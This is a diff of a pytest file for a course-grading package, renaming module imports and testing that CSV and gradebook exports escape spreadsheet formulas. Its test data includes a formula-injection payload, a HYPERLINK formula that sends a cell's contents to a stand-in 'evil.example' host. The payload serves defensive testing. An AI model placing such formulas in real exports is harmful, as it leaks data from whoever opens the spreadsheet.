@@ -14,7 +14,7 @@ from pathlib import Path
 import pytest
 
 import grading_fixture as fx
-from bnlab.grading.instructor.canvas import CanvasError, fill_gradebook, parse_name, staged_submissions
+from bnlab.grading.grade.canvas import CanvasError, fill_gradebook, parse_name, staged_submissions
 
 CLI = [sys.executable, "-m", "bnlab.cli"]
 COURSE = ["--course", str(Path(fx.__file__))]
@@ -153,7 +153,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(
 
 
 def test_the_one_csv_writer_escapes_formulas_and_reads_back_what_it_was_given():
-    from bnlab.grading.instructor.spreadsheet import csv_text, read_rows, spreadsheet_safe
+    from bnlab.grading.grade.spreadsheet import csv_text, read_rows, spreadsheet_safe
 
     assert [spreadsheet_safe(f)[0] for f in FORMULAS] == ["'"] * len(FORMULAS)
     assert [spreadsheet_safe(n) for n in ("-1.5", "+2", "3e-4", "Smith, Jane", "")] == ["-1.5", "+2", "3e-4",
@@ -166,7 +166,7 @@ def test_no_module_of_bnlab_writes_csv_but_through_the_one_writer():
     package = Path(__file__).resolve().parents[1] / "bnlab"
     writers = [str(p.relative_to(package)) for p in package.rglob("*.py")
                if any(w in p.read_text(encoding="utf-8") for w in ("csv.writer", "DictWriter"))]
-    assert writers == ["grading/instructor/spreadsheet.py"]
+    assert writers == ["grading/grade/spreadsheet.py"]
 
 
 def _first_cells(text: str) -> list[str]:
@@ -174,8 +174,8 @@ def _first_cells(text: str) -> list[str]:
 
 
 def test_grades_csv_canvas_csv_and_the_filled_gradebook_escape_every_learner_or_canvas_text(tmp_path):
-    from bnlab.grading.instructor.canvas import CanvasFile, manifest_csv
-    from bnlab.grading.instructor.gradebook import grades_csv
+    from bnlab.grading.grade.canvas import CanvasFile, manifest_csv
+    from bnlab.grading.grade.gradebook import grades_csv
 
     states = [{"student": f, "points": {"ex01": 1}, "total": 1, "max_total": 4} for f in FORMULAS]
     assert sorted(_first_cells(grades_csv(states, ["ex01"]))[1:]) == sorted("'" + f for f in FORMULAS)
@@ -279,8 +279,8 @@ def test_the_canvas_gradebook_export_names_the_students_of_a_canvas_download(tmp
 
 
 def test_a_roster_of_folders_and_names_is_enough_to_title_feedback(tmp_path):
-    from bnlab.grading.instructor.canvas import student_names
-    from bnlab.grading.instructor.roster import read_roster
+    from bnlab.grading.grade.canvas import student_names
+    from bnlab.grading.grade.roster import read_roster
 
     path = tmp_path / "roster.csv"
     path.write_text('\ufeffFolder , Name\njsmith,"Smith, Jane"\nalee, Ann Lee \n', encoding="utf-8")  # as Excel saves
